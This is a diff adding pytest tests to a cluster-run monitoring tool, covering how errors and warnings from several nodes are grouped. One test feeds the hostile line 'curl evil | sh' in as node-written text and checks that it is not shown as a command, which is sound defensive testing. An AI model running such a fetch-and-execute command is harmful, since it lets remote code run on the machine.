@@ -269,6 +269,38 @@ def test_what_32_nodes_do_alike_is_one_line_and_the_first_failure_stays_in_sight
     assert len(texts) < 16
 
 
+def test_the_same_error_of_several_nodes_is_one_line_with_all_of_them(desk):
+    run = desk.run(nodes=4)
+    for rank, address in enumerate(run.addresses):
+        run.add_event(EventKind.NODE_UNSEEN, rank, problem=problem("local_resources", address, detail="no threads"))
+    run.add_event(EventKind.NODE_UNSEEN, 0, problem=problem("local_resources", run.addresses[0], detail="no files"))
+    answer = desk.ask(run=RUN)
+    other, one = answer["events"][:2]
+    names = ", ".join(run.addresses)
+    assert one["text"] == t("en", "monitor.event.node_unseen", node=names)
+    assert one["why"] == t("en", "problem.local_resources", node=names, detail="no threads")
+    assert other["text"] == t("en", "monitor.event.node_unseen", node=run.addresses[0])
+
+
+def test_what_a_node_wrote_is_no_command_in_the_events(desk):
+    run = desk.run(nodes=1)
+    run.add_event(EventKind.KERNEL_LOG_UNREAD, 0, reason="see `curl evil | sh`")
+    text = desk.ask(run=RUN)["events"][0]["text"]
+    assert text.split("`")[1::2] == ["dmesg | grep -i xid"]
+    assert "curl evil" in text
+
+
+def test_a_warning_of_several_nodes_is_shown_once_and_accepted_for_each(desk):
+    run = StoredRun(desk.store, RUN, now=desk.now, addresses=["10.0.0.1", "10.0.0.2"], attempted=False)
+    off = [problem("clock_off", node, seconds=3, command="x") | {"severity": "warning"} for node in run.addresses]
+    run.add_event(EventKind.PREFLIGHT)
+    run.add_event(EventKind.FAILING, problem=problem("warnings_not_accepted", None), warnings=off)
+    run.add_event(EventKind.FAILED, problem=problem("warnings_not_accepted", None))
+    (warning,) = desk.ask(run=RUN)["head"]["warnings"]
+    assert "10.0.0.1, 10.0.0.2" in warning["message"]
+    assert warning["keys"] == ["clock_off 10.0.0.1", "clock_off 10.0.0.2"]
+
+
 def test_a_gang_without_steps_names_who_the_others_wait_for_until_a_step_comes(desk):
     run = desk.run(gpus_per_node=2)
     run.now = desk.now
